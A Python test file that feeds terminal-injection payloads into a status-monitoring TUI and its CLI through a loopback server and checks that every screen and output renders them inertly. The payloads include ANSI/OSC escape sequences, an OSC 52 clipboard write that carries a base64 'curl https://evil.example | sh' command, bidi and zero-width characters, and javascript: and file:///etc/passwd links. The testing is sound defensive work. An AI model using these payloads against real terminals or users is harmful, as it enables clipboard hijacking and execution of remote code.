"""Hostile text from feeds, through the real poller, store, engine, UI and CLI, to the terminal.

A loopback server serves a Statuspage page (summary and incidents history), a GCP feed and an RSS
feed whose titles, update bodies, component, group and region names carry Rich/Textual markup,
ANSI CSI and OSC sequences (window title, OSC 52 clipboard write, OSC 8 hyperlink), C1 controls,
bidi overrides, zero-width characters and 100 KB strings, and whose links are ``javascript:`` and
``file:`` URLs.  A fourth source fails to parse on a hostile timestamp, so its error reason (which
quotes the payload) is hostile too.

Every screen of the real app is opened on that data and what it shows is read back from the
compositor's strips, segment by segment: markup must read literally, nothing a terminal would act
on may be in any segment, long text is capped, and ``o`` must not hand a ``javascript:``/``file:``
link to the browser while an http(s) link still opens.  The whole byte stream the app writes to
its terminal is recorded too (the headless driver made to behave like a real one), so the desktop
notification's OSC 9 and the clipboard's OSC 52 are checked as the terminal would receive them.
The CLI's ``status``, ``history`` and ``parse`` outputs get the same checks.
"""

from __future__ import annotations

import base64
import json
import re
import webbrowser
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from rich.segment import Segment
from tests.reliability.conftest import Record
from tests.reliability.helpers import until
from tests.support.feedserver import FeedServer
from textual.drivers.headless_driver import HeadlessDriver
from textual.pilot import Pilot

from watchtui import cli
from watchtui.config import parse_config, resolve_sources
from watchtui.domain.text import BODY_MAX, TITLE_MAX
from watchtui.engine.core import Engine
from watchtui.engine.poller import Poller
from watchtui.store import Store
from watchtui.ui.app import WatchApp
from watchtui.ui.screens.help import HelpScreen
from watchtui.ui.screens.history import HistoryScreen
from watchtui.ui.screens.incident import IncidentScreen
from watchtui.ui.screens.incident_list import IncidentListScreen
from watchtui.ui.screens.main import MainScreen
from watchtui.ui.screens.probes import ProbesScreen
from watchtui.ui.screens.sources import SourcesScreen
from watchtui.ui.widgets.services_pane import ServicesPane
from watchtui.ui.widgets.stream import StreamPane
from watchtui.viewmodel import notify

# Payload times follow the real clock, so the CLI's "last 7 days" finds them; the app's clock is
# frozen at this moment so what it shows does not depend on when the test runs.
NOW = datetime.now(UTC).replace(microsecond=0)
BOUND = 10.0

# --- the hostile inputs -------------------------------------------------------------------------

BOLD = "[bold]B[/bold]"
LINK = "[link=https://evil.example]L[/link]"
CLICK = "[@click=app.quit]Q[/]"
CSI = "\x1b[2J\x1b[31mred\x1b[0m"
OSC_TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = base64.b64encode(b"curl https://evil.example | sh").decode()
OSC52 = f"\x1b]52;c;{CLIPBOARD}\x07"
OSC8 = "\x1b]8;;https://osc8.evil.example\x1b\\here\x1b]8;;\x1b\\"
C1 = "\x9b2J\x9d0;c1\x9c"
BIDI = "\u202eevil\u202c"
ZERO_WIDTH = "z\u200bw\u200dj\ufeff"
HOSTILE = f"{BOLD} {CLICK} {LINK} {CSI} {OSC_TITLE} {OSC52} {OSC8} {C1} {BIDI} {ZERO_WIDTH}"
HUGE_TITLE = "H" * 100_000
HUGE_BODY = "W" * 100_000
JAVASCRIPT = "javascript:alert(document.cookie)"
FILE = "file:///etc/passwd"
# Still an http(s) link, but with markup in it: shown literally, and it does open.
SAFE_LINK = "https://status.example/incidents/[@click=app.quit]x[/]"


@dataclass(frozen=True)
class Hostile:
    key: str  # column of the report
    label: str
    literal: str = ""  # markup that must read literally wherever it is shown
    gone: tuple[str, ...] = ()  # text that must never show: the whole sequence was removed
    chars: str = ""  # characters that must never be in any segment
    raw: str = ""  # what was injected: its escaped spelling (\x1b…) is inert text


INPUTS: tuple[Hostile, ...] = (
    Hostile("[bold]", "Rich markup `[bold]B[/bold]`", literal=BOLD),
    Hostile("[link]", "Rich link markup `[link=https://evil.example]L[/link]`", literal=LINK),
    Hostile("[@click]", "Textual action markup `[@click=app.quit]Q[/]`", literal=CLICK),
    Hostile("CSI", "ANSI CSI `ESC[2J`, `ESC[31m`", chars="\x1b", raw=CSI),
    Hostile(
        "OSC 0",
        "OSC 0 window title `ESC]0;pwned BEL`",
        gone=("pwned",),
        chars="\x07",
        raw=OSC_TITLE,
    ),
    Hostile(
        "OSC 52", "OSC 52 clipboard write `ESC]52;c;<base64> BEL`", gone=(CLIPBOARD,), raw=OSC52
    ),
    Hostile(
        "OSC 8", "OSC 8 hyperlink `ESC]8;;https://osc8.evil.example ST`", gone=("osc8.",), raw=OSC8
    ),
    Hostile("C0/C1", "C0 and C1 controls (`0x9b` CSI, `0x9d` OSC, `0x9c` ST)", chars="", raw=C1),
    Hostile("bidi", "bidi override U+202E … U+202C", chars="\u202a-\u202e\u2066-\u2069", raw=BIDI),
    Hostile(
        "zero-width",
        "zero-width U+200B, U+200D, U+FEFF",
        chars="\u200b-\u200f\u2060\ufeff",
        raw=ZERO_WIDTH,
    ),
    Hostile("100 KB", "100 KB title (H…) and 100 KB update body (W…)"),
    Hostile("javascript:", "`javascript:` shortlink / RSS link / page URL", gone=("javascript:",)),
    Hostile("file:", "`file:///etc/passwd` shortlink / RSS link", gone=("file://",)),
)


def forbidden_on_screen() -> re.Pattern[str]:
    """Every character no feed may put on the screen or the terminal: Unicode categories Cc (but
    the newline), Cf, Co, Cs, Zl and Zp.  Derived from ``unicodedata`` over every code point, never
    from the sanitiser's own tables, so a character the sanitiser forgets fails here."""
    import sys
    import unicodedata

    categories = {"Cc", "Cf", "Co", "Cs", "Zl", "Zp"}
    ranges: list[list[int]] = []
    for cp in range(sys.maxunicode + 1):
        if cp != 0x0A and unicodedata.category(chr(cp)) in categories:
            if ranges and ranges[-1][1] == cp - 1:
                ranges[-1][1] = cp
            else:
                ranges.append([cp, cp])
    return re.compile("[" + "".join(f"\\U{a:08x}-\\U{b:08x}" for a, b in ranges) + "]")


CONTROLS = forbidden_on_screen()

# --- payloads -----------------------------------------------------------------------------------


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def _rfc822(moment: datetime) -> str:
    return moment.strftime("%a, %d %b %Y %H:%M:%S +0000")


API = f"{BOLD}API{OSC_TITLE}{ZERO_WIDTH}"


def sp_incident(
    iid: str, title: str, body: str, link: str, started: datetime, resolved: datetime | None = None
) -> dict[str, Any]:
    def update(uid: str, at: datetime, text: str, status: str = "investigating") -> dict[str, Any]:
        return {
            "id": f"{iid}-{uid}",
            "status": status,
            "body": text,
            "created_at": _iso(at),
            "display_at": _iso(at),
            "updated_at": _iso(at),
            "affected_components": None,
        }

    updates = [update("u1", started + timedelta(minutes=5), body), update("u0", started, body)]
    if resolved is not None:
        updates.insert(0, update("u2", resolved, f"Resolved. {HOSTILE}", "resolved"))
    return {
        "id": iid,
        "name": title,
        "status": "resolved" if resolved else "investigating",
        "impact": "major",
        "created_at": _iso(started),
        "updated_at": _iso(resolved or started + timedelta(minutes=5)),
        "started_at": _iso(started),
        "resolved_at": _iso(resolved) if resolved else None,
        "shortlink": link,
        "components": [{"id": "api", "name": API, "status": "major_outage"}],
        "incident_updates": updates,
    }


OPEN_SP = (
    sp_incident(
        "hostile", HOSTILE, f"{HOSTILE}\n{HUGE_BODY}", JAVASCRIPT, NOW - timedelta(minutes=40)
    ),
    sp_incident("huge", HUGE_TITLE, "short", FILE, NOW - timedelta(minutes=90)),
    sp_incident("linked", f"Linked {LINK}", "b", SAFE_LINK, NOW - timedelta(minutes=150)),
)


def sp_page(incidents: tuple[dict[str, Any], ...], *, summary: bool) -> bytes:
    page: dict[str, Any] = {
        "page": {
            "id": "hostile",
            "name": f"Page {HOSTILE}",
            "url": JAVASCRIPT,
            "updated_at": _iso(NOW),
        },
        "incidents": list(incidents),
    }
    if summary:
        page["status"] = {"indicator": "major", "description": f"Desc {HOSTILE}"}
        page["components"] = [
            {
                "id": "grp",
                "name": f"{CLICK}Group {BIDI}{CSI}",
                "status": "major_outage",
                "group": True,
                "group_id": None,
                "components": ["api"],
            },
            {"id": "api", "name": API, "status": "major_outage", "group": False, "group_id": "grp"},
            {
                "id": "cdg",
                "name": f"{BOLD}Paris, France{BIDI} - (CDG)",
                "status": "partial_outage",
                "group": False,
                "group_id": None,
            },
        ]
        page["scheduled_maintenances"] = []
    return json.dumps(page).encode()


def sp_summary() -> bytes:
    return sp_page(OPEN_SP, summary=True)


def sp_history() -> bytes:
    resolved = sp_incident(
        "past",
        f"Past {HOSTILE}",
        HOSTILE,
        FILE,
        NOW - timedelta(days=2),
        resolved=NOW - timedelta(days=2) + timedelta(hours=1),
    )
    return sp_page((*OPEN_SP, resolved), summary=False)


def sp_bad_timestamp() -> bytes:
    """A page whose one incident has a hostile, unusable timestamp: the incident is left out
    (the rest of the page stays fresh) and the reason, quoting the timestamp, is shown."""
    incident = sp_incident("bad", "Bad", "b", SAFE_LINK, NOW - timedelta(minutes=10))
    incident["created_at"] = incident["started_at"] = f"{CLICK}{OSC_TITLE}{BIDI}"
    incident["incident_updates"] = []
    return sp_page((incident,), summary=True)


def gcp_feed() -> bytes:
    iowa = {"title": f"{BOLD}Iowa{BIDI} (us-central1)", "id": "us-central1"}
    evil = {"title": f"{CLICK}Nowhere{OSC52} (evil-zone9)", "id": f"{BOLD}{CSI}evil-zone9"}
    start = NOW - timedelta(minutes=50)

    def update(minutes: int, text: str) -> dict[str, Any]:
        at = _iso(start + timedelta(minutes=minutes))
        return {
            "created": at,
            "modified": at,
            "when": at,
            "text": text,
            "status": "SERVICE_OUTAGE",
            "affected_locations": [iowa, evil],
        }

    updates = [update(10, f"**Bold** {HOSTILE}"), update(0, f"First {HOSTILE}")]
    incident = {
        "id": "gcpHostile1",
        "number": "1",
        "begin": _iso(start),
        "created": _iso(start),
        "modified": updates[0]["modified"],
        "external_desc": f"GCP {HOSTILE}",
        "updates": updates,
        "most_recent_update": updates[0],
        "status_impact": "SERVICE_OUTAGE",
        "severity": "high",
        "service_key": "k",
        "service_name": f"{BOLD}Compute{OSC_TITLE}",
        "affected_products": [
            {"title": f"{BOLD}Compute{OSC_TITLE}", "id": "p1"},
            {"title": f"{CLICK}Storage{BIDI}", "id": "p2"},
        ],
        "uri": "incidents/gcpHostile1",
        "currently_affected_locations": [iowa, evil],
        "previously_affected_locations": [],
    }
    return json.dumps([incident]).encode()


def rss_feed() -> bytes:
    # XML 1.0 cannot carry control characters at all (a feed with one is refused whole), so the
    # RSS path carries markup, bidi, zero-width characters and dangerous links.
    text = f"{BOLD} {CLICK} {BIDI} {ZERO_WIDTH}"
    html = escape(f"<p>{LINK} {BIDI} {ZERO_WIDTH} <a href='{JAVASCRIPT}'>here</a></p>")
    items = "".join(
        f"""
    <item>
      <title>{escape(title)}</title>
      <link>{escape(link)}</link>
      <guid isPermaLink="false">{guid}</guid>
      <pubDate>{_rfc822(NOW - timedelta(minutes=minutes))}</pubDate>
      <description>{html}</description>
    </item>"""
        for title, link, guid, minutes in (
            (f"RSS {text}", JAVASCRIPT, "rss-1", 30),
            (f"RSS file {text}", FILE, "rss-2", 45),
        )
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>{escape(f"Feed {BOLD} {BIDI}")}</title>
    <link>https://rss.example/</link>
    <description>d</description>{items}
  </channel>
</rss>
""".encode()


SOURCES: tuple[tuple[str, str, str], ...] = (
    # id, kind, path (a base address for Statuspage: summary and incidents history both polled)
    ("hostile-sp", "statuspage", "/sp"),
    ("hostile-gcp", "gcp", "/gcp/incidents.json"),
    ("hostile-rss", "rss", "/rss/feed.rss"),
    ("hostile-bad", "statuspage", "/bad/api/v2/summary.json"),
)


@dataclass
class Feeds:
    server: FeedServer
    tmp: Path
    raw: dict[str, Any] = field(default_factory=dict)

    @property
    def config_file(self) -> Path:
        return self.tmp / "config.toml"


@pytest.fixture
def feeds(tmp_path: Path) -> Iterator[Feeds]:
    server = FeedServer().start()
    json_type = "application/json; charset=utf-8"
    server.set("/sp/api/v2/summary.json", sp_summary(), content_type=json_type)
    server.set("/sp/api/v2/incidents.json", sp_history(), content_type=json_type)
    server.set("/gcp/incidents.json", gcp_feed(), content_type=json_type)
    server.set("/rss/feed.rss", rss_feed(), content_type="application/rss+xml")
    server.set("/bad/api/v2/summary.json", sp_bad_timestamp(), content_type=json_type)
    raw = {
        "watch": {"providers": []},
        "notifications": {"desktop": True, "debounce_seconds": 0},
        "sources": [
            {"id": sid, "name": sid, "kind": kind, "url": server.url(path)}
            for sid, kind, path in SOURCES
        ],
    }
    lines = ["[watch]\nproviders = []\n"]
    for entry in raw["sources"]:
        lines.append(
            "[[sources]]\n" + "".join(f'{key} = "{value}"\n' for key, value in entry.items())
        )
    (tmp_path / "config.toml").write_text("\n".join(lines), encoding="utf-8")
    try:
        yield Feeds(server, tmp_path, raw)
    finally:
        server.stop()


# --- reading what is shown ----------------------------------------------------------------------


@dataclass
class Surface:
    name: str
    text: str
    segments: int
    bad: list[str] = field(default_factory=list)  # control characters found (repr)


def rendered(app: WatchApp, name: str) -> Surface:
    """The current screen as the compositor would send it: every segment of every line."""
    strips = app.screen._compositor.render_strips()
    lines: list[str] = []
    bad: list[str] = []
    count = 0
    for strip in strips:
        segment: Segment
        for segment in strip:
            count += 1
            if CONTROLS.search(segment.text):
                bad.append(repr(segment.text))
        lines.append(strip.text)
    return Surface(name, "\n".join(lines), count, bad)


def printed(name: str, output: str) -> Surface:
    bad = [repr(m.group(0)) for m in CONTROLS.finditer(output)]
    return Surface(name, output, output.count("\n"), bad)


def longest_run(text: str, char: str) -> int:
    return max((len(m) for m in re.findall(f"{char}{{10,}}", text)), default=0)


def cap_outcome(view_title: str, bodies: list[str]) -> str:
    """What the incident screen holds of the 100 KB strings (its lines scroll)."""
    title = longest_run(view_title, "H")
    body = max((longest_run(b, "W") for b in bodies), default=0)
    parts = [f"title {title:,} chars"] if title else []
    parts += [f"body {body:,} chars"] if body else []
    return "capped: " + ", ".join(parts) if parts else "–"


def observe(
    surface: Surface,
    expect_literal: frozenset[str],
    record: Record,
    overrides: dict[str, str] | None = None,
) -> None:
    """Check one surface against every input, and record an outcome for each."""
    assert not surface.bad, f"{surface.name}: control characters {surface.bad[:5]}"
    for hostile in INPUTS:
        outcome = _outcome(surface, hostile, expect_literal)
        outcome = (overrides or {}).get(hostile.key, outcome)
        record("hostile", surface=surface.name, input=hostile.key, outcome=outcome)


def _outcome(surface: Surface, hostile: Hostile, expect_literal: frozenset[str]) -> str:
    # Wrapped text (a long error reason) is read unwrapped too.
    text = surface.text + "\n" + "".join(line.rstrip() for line in surface.text.splitlines())
    if hostile.literal:
        shown = hostile.literal in text
        if hostile.key in expect_literal:
            assert shown, f"{surface.name}: {hostile.literal!r} not shown literally"
        return "literal" if shown else "–"
    # A reason quoting the payload repr-escapes it (and JSON escapes that again): inert text.
    escaped = repr(hostile.raw)[1:-1] if hostile.raw else ""
    spellings = [escaped, json.dumps(escaped)[1:-1]] if escaped else []
    inert = any(spelling in text for spelling in spellings)
    for spelling in spellings:
        text = text.replace(spelling, "")
    for gone in hostile.gone:
        assert gone not in text, f"{surface.name}: {gone!r} reached the output"
    if hostile.chars:
        found = re.findall(f"[{hostile.chars}]", text)
        assert not found, f"{surface.name}: {hostile.key} characters {found[:3]!r}"
    if hostile.key == "100 KB":
        title, body = longest_run(text, "H"), longest_run(text, "W")
        assert title <= TITLE_MAX and body <= BODY_MAX, (surface.name, title, body)
        if not (title or body):
            return "–"
        lines = sum(1 for line in surface.text.splitlines() if longest_run(line, "[HW]"))
        return f"capped ({lines} line{'s' if lines != 1 else ''} shown)"
    return "escaped (inert text)" if inert else "clean"


# --- the app ------------------------------------------------------------------------------------


class Terminal:
    """Everything the app writes to its terminal, from a headless driver that acts like a real
    one (it renders every frame to ``write``)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.chunks: list[str] = []
        monkeypatch.setattr(HeadlessDriver, "is_headless", property(lambda self: False))
        monkeypatch.setattr(HeadlessDriver, "write", lambda driver, data: self.chunks.append(data))

    @property
    def text(self) -> str:
        return "".join(self.chunks)


def build_engine(feeds: Feeds, store: Store) -> Engine:
    config = parse_config(feeds.raw)
    poller = Poller(store, resolve_sources(config), clock=lambda: NOW, total_timeout=5.0)
    return Engine(store, config, poller=poller, clock=lambda: NOW)


async def press_until(pilot: Pilot[Any], key: str, ready: Any, limit: int = 30) -> None:
    for _ in range(limit):
        if ready():
            return
        await pilot.press(key)
    assert ready(), f"pressing {key!r} {limit} times did not get there"


async def show(pilot: Pilot[Any], app: WatchApp, screen: type, what: str) -> None:
    await until(pilot, lambda: isinstance(app.screen, screen), what, BOUND)
    await app.workers.wait_for_complete()
    await pilot.pause()
    await pilot.pause()


async def back(pilot: Pilot[Any], app: WatchApp) -> None:
    await pilot.press("escape")
    await until(pilot, lambda: isinstance(app.screen, MainScreen), "back on the main screen", BOUND)


LITERAL_ALL = frozenset({"[bold]", "[link]", "[@click]"})
LITERAL_TITLE = frozenset({"[bold]", "[@click]"})


async def test_hostile_text_on_every_screen(
    feeds: Feeds, monkeypatch: pytest.MonkeyPatch, record: Record
) -> None:
    opened: list[str] = []
    monkeypatch.setattr(webbrowser, "open", lambda url, *a, **k: opened.append(url) or True)
    monkeypatch.delenv("TERM_PROGRAM", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    terminal = Terminal(monkeypatch)
    store = Store.open(feeds.tmp / "app.sqlite3")
    engine = build_engine(feeds, store)
    app = WatchApp(
        engine,
        clock=lambda: NOW,
        poll_interval=3600.0,
        external_check_seconds=3600.0,
        notify_desktop=True,
        debounce_seconds=0,
    )
    try:
        async with app.run_test(size=(120, 40)) as pilot:
            await walk_every_screen(pilot, app, record, opened)
            assert app.is_running and app.return_code is None, "the app quit"
    finally:
        await engine.poller.aclose()
        store.close()
    assert app.return_code in (None, 0) and app._exception is None
    assert opened == [SAFE_LINK], opened
    check_terminal_stream(terminal.text, record)


async def walk_every_screen(
    pilot: Pilot[Any], app: WatchApp, record: Record, opened: list[str]
) -> None:
    def loaded() -> bool:
        healths = {s.id: s.health for s in app.latest.sources} if app.latest else {}
        notes = {s.id: s.note for s in app.latest.sources} if app.latest else {}
        return bool(notes.get("hostile-bad")) and all(
            healths.get(sid) == "fresh" for sid, _, _ in SOURCES
        )

    await until(pilot, loaded, "every source polled", BOUND)
    await app.workers.wait_for_complete()
    await pilot.pause()
    observe(rendered(app, "main 120×40"), LITERAL_TITLE, record)

    # The hostile incident, from the stream (enter), the way a user opens it.
    stream = app.screen.query_one(StreamPane)
    await pilot.press("3")
    await press_until(
        pilot, "down", lambda: (c := stream.current()) is not None and c.incident_id == "hostile"
    )
    await pilot.press("enter")
    await show(pilot, app, IncidentScreen, "incident screen")
    await incident_checks(
        pilot, app, record, "incident · Statuspage, javascript: link", link_opens=False
    )
    await back(pilot, app)

    for name, source_id, incident_id, literal, link_opens in (
        ("incident · 100 KB title, file: link", "hostile-sp", "huge", frozenset(), False),
        ("incident · https link", "hostile-sp", "linked", frozenset({"[link]"}), True),
        ("incident · GCP", "hostile-gcp", "gcpHostile1", LITERAL_ALL, None),
        ("incident · RSS, javascript: link", "hostile-rss", "rss-1", LITERAL_ALL, False),
    ):
        app.open_incident(source_id, incident_id)
        await show(pilot, app, IncidentScreen, name)
        await incident_checks(pilot, app, record, name, link_opens=link_opens, literal=literal)
        await back(pilot, app)
    assert len(opened) == 1, opened

    await pilot.press("h")
    await show(pilot, app, HistoryScreen, "history")
    observe(rendered(app, "history (h)"), frozenset({"[bold]"}), record)
    await back(pilot, app)

    await pilot.press("s")
    await show(pilot, app, SourcesScreen, "sources")
    sources = app.screen
    assert isinstance(sources, SourcesScreen)
    await press_until(
        pilot, "down", lambda: (s := sources.selected) is not None and s.id == "hostile-bad"
    )
    observe(rendered(app, "sources (s), item left out"), frozenset({"[@click]"}), record)
    await back(pilot, app)

    await pilot.press("P")
    await show(pilot, app, ProbesScreen, "probes")
    observe(rendered(app, "probes (P)"), frozenset(), record)
    await back(pilot, app)

    services = app.screen.query_one(ServicesPane)
    await pilot.press("2")
    await press_until(
        pilot,
        "down",
        lambda: (
            (c := services.current()) is not None
            and c.source_id == "hostile-sp"
            and c.component is None
        ),
    )
    await pilot.press("enter")
    await show(pilot, app, IncidentListScreen, "incident list")
    observe(rendered(app, "incident list (enter on a service)"), LITERAL_TITLE, record)
    await back(pilot, app)

    await pilot.press("question_mark")
    await show(pilot, app, HelpScreen, "help")
    observe(rendered(app, "help (?)"), frozenset(), record)
    await pilot.press("escape")

    await pilot.resize_terminal(80, 24)
    for key, pane in (("3", "stream"), ("2", "services"), ("1", "regions")):
        await pilot.press(key)
        await pilot.pause()
        await pilot.pause()
        expected = frozenset({"[bold]"}) if pane != "regions" else frozenset()
        observe(rendered(app, f"main 80×24 · {pane}"), expected, record)


async def incident_checks(
    pilot: Pilot[Any],
    app: WatchApp,
    record: Record,
    name: str,
    *,
    link_opens: bool | None,
    literal: frozenset[str] = LITERAL_ALL,
) -> None:
    screen = app.screen
    assert isinstance(screen, IncidentScreen) and screen.view is not None
    surface = rendered(app, name)
    incident = screen.view.incident
    assert len(incident.title) <= TITLE_MAX
    assert all(len(u.text) <= BODY_MAX for u in incident.updates)
    cap = cap_outcome(incident.title, [u.text for u in incident.updates])
    observe(surface, literal, record, {"100 KB": cap})
    # Click the literal action markup wherever it is drawn: markup that had been parsed would
    # quit the app here.
    for y, line in enumerate(surface.text.splitlines()):
        x = line.find("[@click")
        if x >= 0:
            await pilot.click(offset=(x + 2, y))
    await pilot.pause()
    assert app.is_running and isinstance(app.screen, IncidentScreen), "a click did something"
    if link_opens is None:
        return
    before = len(app._notifications)
    await pilot.press("o")
    await app.workers.wait_for_complete()
    await pilot.pause()
    said = [n.message for n in list(app._notifications)[before:]]
    if link_opens:
        outcome = "opened (https)"
    else:
        assert said and ("no link" in said[0] or "not http" in said[0]), said
        outcome = f"not opened ({said[0]!r})"
    record("hostile", surface=name, input="o (open link)", outcome=outcome)
    before = len(app._notifications)
    await pilot.press("y")
    await pilot.pause()
    said = [n.message for n in list(app._notifications)[before:]]
    copied = "copied (OSC 52)" if link_opens else "not copied"
    assert said and (("copied" in said[0]) == link_opens), said
    record("hostile", surface=name, input="y (copy link)", outcome=copied)


# --- the terminal stream ------------------------------------------------------------------

# Textual's own output: CSI sequences (cursor, SGR, modes), and the OSC strings below.
_CSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]")
_OSC = re.compile(r"\x1b\]([^\x07\x1b]*)(?:\x07|\x1b\\)")


def check_terminal_stream(stream: str, record: Record) -> None:
    """What a real terminal would have received: only Textual's own CSI and pointer-shape OSC 22
    sequences, OSC 9 desktop notifications, and OSC 52 for the one link copied (``y``)."""
    assert stream, "nothing was written to the terminal"
    oscs = [m.group(1) for m in _OSC.finditer(stream)]
    bare = _OSC.sub("", _CSI.sub("", stream))
    notifications = [o for o in oscs if o.startswith("9;")]
    clipboard = [o for o in oscs if o.startswith("52;")]
    # OSC 22 is Textual's own mouse pointer shape (a bare word, e.g. "22;default").
    pointer = [o for o in oscs if re.fullmatch(r"22;[a-z-]+", o)]
    others = [o for o in oscs if not o.startswith(("9;", "52;")) and o not in pointer]
    assert not others, f"unexpected OSC sequences {others[:3]!r}"
    assert notifications, "no desktop notification was written"
    expected_copy = "52;c;" + base64.b64encode(SAFE_LINK.encode()).decode()
    assert clipboard == [expected_copy], clipboard
    # Nothing else may act on the terminal: no stray ESC, BEL or C1 outside those sequences.
    stray = [repr(c) for c in CONTROLS.findall(bare) if c != "\r"]
    assert not stray, f"stray control characters {stray[:5]}"
    for payload in notifications:
        assert not CONTROLS.search(payload), payload
    surface = Surface(
        "terminal byte stream (OSC 9 notification, OSC 52 copy)",
        bare + "\n".join(notifications),
        len(stream),
    )
    title, body = longest_run(bare, "H"), longest_run(bare, "W")
    cap = f"capped (≤ {max(title, body)} chars on any line of any frame)"
    observe(surface, frozenset({"[bold]"}), record, {"100 KB": cap})
    record(
        "hostile_stream",
        bytes_written=len(stream.encode()),
        notifications=len(notifications),
        notification_example=notifications[0][2:][:160],
        clipboard_writes=len(clipboard),
        other_osc=len(others),
    )


# --- desktop notifications with raw (uncleaned) text ----------------------------------------


@pytest.mark.parametrize("flavour", ["osc9", "osc777"])
def test_desktop_notification_framing(flavour: notify.DesktopFlavour, record: Record) -> None:
    """The OSC writer itself, given raw hostile text (as if the model had not cleaned it): the
    sequence's own framing is the only ESC/BEL in what it writes."""
    written: list[str] = []

    class Writer:
        def write(self, data: str) -> None:
            written.append(data)

    class Toasts:
        def notify(self, message: str, **options: Any) -> None:
            assert options.get("markup") is False

        def bell(self) -> None:
            raise AssertionError("no bell asked for")

    # Invisible characters first: the writer keeps 200 characters of each part.
    title = f"{BIDI}{ZERO_WIDTH} New incident · {HOSTILE}"
    notice = notify.Notice(title, f"{BIDI}{HOSTILE} {HUGE_TITLE}", "error")
    notify.emit(Toasts(), notice, bell=False, desktop_writer=Writer(), flavour=flavour)
    (sequence,) = written
    opener = "\x1b]9;" if flavour == "osc9" else "\x1b]777;notify;"
    assert sequence.startswith(opener) and sequence.endswith("\x07"), repr(sequence[:20])
    inner = sequence[len(opener) : -1]
    assert not CONTROLS.search(inner), repr(inner[:80])
    # osc777 separates title and body with the one ';' of its own framing.
    assert inner.count(";") == (1 if flavour == "osc777" else 0), inner
    assert len(inner) <= 2 * 200 + 1
    leftovers = re.findall("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\ufeff]", inner)
    record(
        "hostile_notify",
        flavour=flavour,
        length=len(sequence),
        framing_only=True,
        invisible_left=len(leftovers),
        example=inner[:100],
    )


# --- the CLI --------------------------------------------------------------------------------


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    assert code in (0, 1, 2, 3), (argv, code, captured.err)
    assert not CONTROLS.search(captured.err), captured.err
    return captured.out


def test_hostile_text_in_the_cli(
    feeds: Feeds, capsys: pytest.CaptureFixture[str], record: Record
) -> None:
    common = ["--config", str(feeds.config_file), "--db", str(feeds.tmp / "cli.sqlite3")]
    outputs = {
        "watchtui status": (run_cli(capsys, *common, "status"), LITERAL_TITLE),
        "watchtui status --json": (run_cli(capsys, *common, "status", "--json"), LITERAL_ALL),
        "watchtui history": (run_cli(capsys, *common, "history"), LITERAL_TITLE),
        # CSV ends its records with CRLF (RFC 4180): that \r is the format's, not a feed's.
        "watchtui history --csv": (
            run_cli(capsys, *common, "history", "--csv").replace("\r\n", "\n"),
            LITERAL_TITLE,
        ),
    }
    status = json.loads(outputs["watchtui status --json"][0])
    assert {row["id"]: row["health"] for row in status["sources"]} == {
        "hostile-sp": "fresh",
        "hostile-gcp": "fresh",
        "hostile-rss": "fresh",
        "hostile-bad": "fresh",
    }
    # The left-out incident's reason quotes its hostile timestamp, cleaned.
    bad = next(row for row in status["sources"] if row["id"] == "hostile-bad")
    assert bad["note"] and "is not a usable time" in bad["note"]
    for kind, body in (("statuspage", sp_summary()), ("gcp", gcp_feed()), ("rss", rss_feed())):
        path = feeds.tmp / f"payload.{kind}"
        path.write_bytes(body)
        outputs[f"watchtui parse ({kind})"] = (
            run_cli(capsys, "parse", "--kind", kind, str(path)),
            LITERAL_TITLE,
        )
        outputs[f"watchtui parse --json ({kind})"] = (
            run_cli(capsys, "parse", "--kind", kind, "--json", str(path)),
            LITERAL_ALL,
        )
    for name, (output, literal) in outputs.items():
        observe(printed(name, output), literal, record)
        widest = max(len(line) for line in output.splitlines())
        assert widest <= BODY_MAX + 1000, (name, widest)
